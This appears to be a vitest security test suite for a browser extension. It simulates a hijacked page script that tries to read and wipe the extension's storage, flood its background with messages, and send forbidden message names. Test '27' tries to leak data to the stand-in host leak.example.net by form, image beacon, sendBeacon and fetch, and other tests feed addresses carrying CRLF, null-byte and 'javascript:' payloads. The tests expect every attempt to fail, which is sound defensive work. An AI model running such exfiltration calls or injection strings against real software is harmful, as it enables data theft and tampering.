/** What a renderer that was taken over tries from our own isolated world: to read and change what is kept, to learn of other sites, to jam. */
import { describe, expect } from 'vitest';
import { CHIP } from '../browser/driver';
import { it, name } from '../browser/fixture';
import { allStored, setStored } from '../browser/stored';
import { inIsolatedWorld, openAttack, rest, type Stage, stage, tell } from './stage';

const soon = new Date(Date.now() + 10 * 86_400_000).toISOString().slice(0, 10);
/** A person who chose much and met a little. */
const PERSON = {
  preferences: {
    language: 'en',
    quiet: true,
    moments: false,
    diary: true,
    pausedUntil: soon,
    hiddenSites: { 'candy.ai': 'always', 'chatgpt.com': 'always' },
  },
  seen: { 'character-ai': { on: new Date().toISOString().slice(0, 10) } },
  diary: { '2026-W47': { products: ['candy-ai'], moments: [] } },
};

const OWN_ONLY: Record<string, object> = {
  options: {},
  welcome: {},
  export: {},
  diary: {},
  'delete-diary': {},
  'restore-diary': { entries: {} },
  erase: {},
  choose: { quiet: false, diary: true },
  popup: {},
  'show-beside': { tab: 1 },
  'show-on-site': { host: 'candy.ai', show: true },
  'group-removed': { group: 'search' },
};
const NO_MESSAGES = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf', '', 'ARRIVE', 'arrive '];

const isRefused = (reply: unknown): boolean => reply === 'silence' || (reply as { ok?: unknown } | null)?.ok === false;

describe(`in ${name}, code in our isolated world`, () => {
  const on: Stage = stage();

  it('10: finds nothing of a person in any storage, and can neither write there nor empty it', async () => {
    const page = await openAttack(on, '', 'gemini.google.com');
    await setStored(on.browser, PERSON);
    const got = await inIsolatedWorld(
      on.browser,
      page,
      `const tried = async (act) => { try { return JSON.stringify(await act()); } catch (error) { return 'refused: ' + error.message; } };
       return { local: await tried(() => chrome.storage.local.get(null)), session: await tried(() => chrome.storage.session?.get(null)),
         sync: await tried(() => chrome.storage.sync?.get(null)), managed: await tried(() => chrome.storage.managed?.get(null)),
         databases: await tried(async () => (await indexedDB.databases()).map((database) => database.name)),
         set: await tried(() => chrome.storage.local.set({ preferences: { quiet: false }, junk: 'x'.repeat(1000) })),
         clear: await tried(() => chrome.storage.local.clear()) };`,
    );
    expect(JSON.stringify(got)).not.toMatch(/candy|character|quiet|hiddenSites|person|knowledge/);
    expect(await allStored(on.browser)).toMatchObject(PERSON);
    await page.close();
  });

  it('63: leaves no mark that its other sites, or the person’s other machines, could read', async () => {
    const page = await openAttack(on, '', 'gemini.google.com');
    const set = await inIsolatedWorld(
      on.browser,
      page,
      `const tried = (area) => chrome.storage[area].set({ mark: 7 }).then(() => 'done', () => 'refused');
       return [await tried('local'), await tried('sync'), await tried('session').catch(() => 'refused')];`,
    );
    await on.browser.inBackground('await chrome.storage.local.clear(); await chrome.storage.sync.clear(); return 0');
    // Firefox has no way to keep page scripts out: docs/threat-model.md.
    if (name === 'chromium') expect(set).toEqual(['refused', 'refused', 'refused']);
    await page.close();
  });

  it('64: that asks without end keeps nobody else waiting', async () => {
    const page = await openAttack(on, '', 'gemini.google.com');
    const other = await on.browser.open('https://claude.ai/');
    await other.waitInShadow(CHIP, (root) => root.querySelector('.go') !== null);
    await inIsolatedWorld(
      on.browser,
      page,
      `globalThis.flood = [];
       for (let n = 0; n < 1500; n += 1) for (const [name, payload] of [['dismiss', { how: 'later-today' }], ['move-label', {}]])
         globalThis.flood.push(chrome.runtime.sendMessage({ name, payload }));`,
    );
    const since = Date.now();
    expect(await tell(on.browser, other, 'prepare-panel', { product: 'claude' })).toMatchObject({ ok: true });
    expect(Date.now() - since).toBeLessThan(5000);
    // What still waits would send the label of the next test away.
    await inIsolatedWorld(on.browser, page, 'await Promise.allSettled(globalThis.flood)');
    await other.close();
    await page.close();
  });

  it('11 12 13: learns and notes nothing of products of other sites', async () => {
    const page = await openAttack(on, '', 'gemini.google.com');
    await setStored(on.browser, PERSON);
    const replies = [
      ...(await Promise.all(
        [
          'https://character.ai/',
          'https://candy.ai/',
          'https://claude.ai/',
          'https://gemini.google.com.evil.example/',
        ].map((address) => tell(on.browser, page, 'arrive', { address })),
      )),
      await tell(on.browser, page, 'watch', { address: 'https://claude.ai/' }),
      await tell(on.browser, page, 'open-panel', { product: 'chatgpt' }),
      await tell(on.browser, page, 'panel-at-level', { product: 'candy-ai', level: 'plain' }),
      await tell(on.browser, page, 'cite', { product: 'chatgpt', source: 'time-2023-openai-sama', format: 'ris' }),
    ];
    expect(replies.filter((reply) => !isRefused(reply))).toEqual([]);
    // Nothing shown, nothing noted: a note of another product, or of a control that nobody pressed here.
    for (const product of ['chatgpt', 'claude', 'candy-ai'])
      expect((await tell(on.browser, page, 'moment', { product, kind: 'feedback' })) as object).not.toMatchObject({
        value: expect.objectContaining({ text: expect.anything() }),
      });
    expect(await allStored(on.browser)).toMatchObject(PERSON);
    expect(Object.keys(((await allStored(on.browser)) as typeof PERSON).seen)).toEqual(Object.keys(PERSON.seen));
    await page.close();
  });

  it('14: takes back no choice of a person, and switches nothing on', async () => {
    const page = await openAttack(on);
    await setStored(on.browser, PERSON);
    for (const [message, payload] of [
      ['undo-dismiss', {}],
      ['undo-dismiss', { product: 'chatgpt' }],
      ['stop-moments', { stopped: false }],
      ['read-moment', {}],
      ['page-changed', {}],
    ] as const)
      await tell(on.browser, page, message, payload);
    expect(await allStored(on.browser)).toMatchObject({ preferences: PERSON.preferences, diary: PERSON.diary });
    await page.close();
  });

  it('50 51: is refused every message that only our own pages may send, and every name that is none', async () => {
    const page = await openAttack(on);
    await setStored(on.browser, PERSON);
    const sent = [...Object.entries(OWN_ONLY), ...NO_MESSAGES.map((message): [string, object] => [message, {}])];
    const replies = (await inIsolatedWorld(
      on.browser,
      page,
      `const late = () => new Promise((done) => setTimeout(done, 4000, 'silence'));
       return Promise.all(${JSON.stringify(sent)}.map(async ([name, payload]) => [name, (await Promise.race([chrome.runtime.sendMessage({ name, payload }), late()]).catch(String)) ?? 'silence']));`,
    )) as [string, unknown][];
    expect(replies).toHaveLength(sent.length);
    expect(replies.filter(([, reply]) => !isRefused(reply))).toEqual([]);
    expect(await allStored(on.browser)).toMatchObject(PERSON);
    expect(Object.keys(((await allStored(on.browser)) as typeof PERSON).seen)).toEqual(Object.keys(PERSON.seen));
    await page.close();
  });

  it('25: that changes several things at once loses none of them', async () => {
    const page = await openAttack(on);
    await setStored(on.browser, { preferences: { language: 'en' } });
    const replies = await inIsolatedWorld(
      on.browser,
      page,
      `return Promise.all([['dismiss', { how: 'never-here' }], ['move-label', {}]].map(([name, payload]) => chrome.runtime.sendMessage({ name, payload })));`,
    );
    expect(JSON.stringify(replies)).not.toMatch(/"ok":false/);
    const { preferences } = (await allStored(on.browser)) as {
      preferences: { hiddenSites: object; corner?: string };
    };
    expect(preferences.hiddenSites).toHaveProperty(['chatgpt.com']);
    expect(preferences.corner).toBeTruthy();
    await page.close();
  });

  it('31 54: cannot silence the label or upset the background with an address', async () => {
    await openAttack(on).then((page) => page.close());
    const page = await openAttack(
      on,
      `history.replaceState(0, '', '/attack?q=' + 'my secret '.repeat(2000) + '&%00%0d%0a=\\u202e<img>')`,
    );
    const odd = [
      '',
      'https://',
      'javascript:1',
      'https://chatgpt.com:99999/',
      'https://chatgpt.com/%00%0d%0a',
      'https://chatgpt.com./',
      `https://chatgpt.com/${'a/'.repeat(4000)}`,
    ];
    for (const address of odd)
      expect(typeof (await tell(on.browser, page, 'arrive', { address }))).toMatch(/object|string/);
    expect(JSON.stringify(await allStored(on.browser))).not.toMatch(/secret|https?:/);
    await page.close();
  });

  it('55: leaves no address in any storage after a visit with words in the address', async () => {
    const page = await openAttack(on, `history.replaceState(0, '', '/attack?q=my+secret#and+this')`);
    await page.click(CHIP, '.go');
    await rest(1000);
    const kept = await on.browser.inBackground(
      `return JSON.stringify([await chrome.storage.local.get(null), await chrome.storage.session?.get(null), (await caches.keys()), (await indexedDB.databases()).map(({ name }) => name).sort()])`,
    );
    expect(kept).toMatch(/^\[\{\},.*,\[\],\["knowledge","person"\]\]$/);
    expect(kept).not.toMatch(/secret|this|https?:/);
    expect(JSON.stringify(await allStored(on.browser))).not.toMatch(/secret|this|https?:/);
    await page.close();
  });

  it('32 52: other extensions get no answer, since nobody listens', async () => {
    expect(
      await on.browser.inBackground(
        `return [chrome.runtime.onMessageExternal, chrome.runtime.onConnectExternal, chrome.runtime.onUserScriptMessage].map((event) => event?.hasListeners?.() ?? false)`,
      ),
    ).toEqual([false, false, false]);
  });

  it('27: our own pages and our background send nothing, by request or by form', async () => {
    on.server.clear();
    const page = await on.browser.open(on.browser.extensionUrl('src/pages/options/options.html'));
    const outcome = await page.evaluate(`(async () => {
      const form = Object.assign(document.createElement('form'), { method: 'post', action: 'https://leak.example.net/form' });
      document.body.append(form);
      for (const act of [() => form.submit(), () => { new Image().src = 'https://leak.example.net/image'; }, () => navigator.sendBeacon('https://leak.example.net/beacon')])
        try { act(); } catch {}
      document.head.append(Object.assign(document.createElement('base'), { href: 'https://leak.example.net/' }));
      await new Promise((done) => setTimeout(done, 600));
      return [await fetch('https://leak.example.net/fetch').then(() => 'sent', () => 'refused'), document.baseURI.startsWith('https:')];
    })()`);
    expect(outcome).toEqual(['refused', false]);
    expect(on.server.requests().filter(({ host }) => host === 'leak.example.net')).toEqual([]);
    await page.close();
  });

  it('24: that changes its address without end asks the background a few times, not each time', async () => {
    const page = await openAttack(on);
    const asked = await inIsolatedWorld(
      on.browser,
      page,
      `const { runtime } = globalThis.browser ?? chrome;
       const real = runtime.sendMessage; let count = 0;
       const counted = (...given) => { count += 1; return real.apply(runtime, given); };
       try { runtime.sendMessage = counted; } catch {}
       if (runtime.sendMessage !== counted) Object.defineProperty(runtime, 'sendMessage', { value: counted, configurable: true, writable: true });
       for (let n = 0; n < 40; n += 1) { for (let m = 0; m < 12; m += 1) history.replaceState(n, '', '/attack?n=' + n + '-' + m); await new Promise((done) => setTimeout(done, 20)); }
       await new Promise((done) => setTimeout(done, 1500));
       await runtime.sendMessage({ name: 'move-label', payload: {} });
       return count;`,
    );
    expect(asked).toBeGreaterThan(0);
    expect(asked).toBeLessThan(60);
  });
});
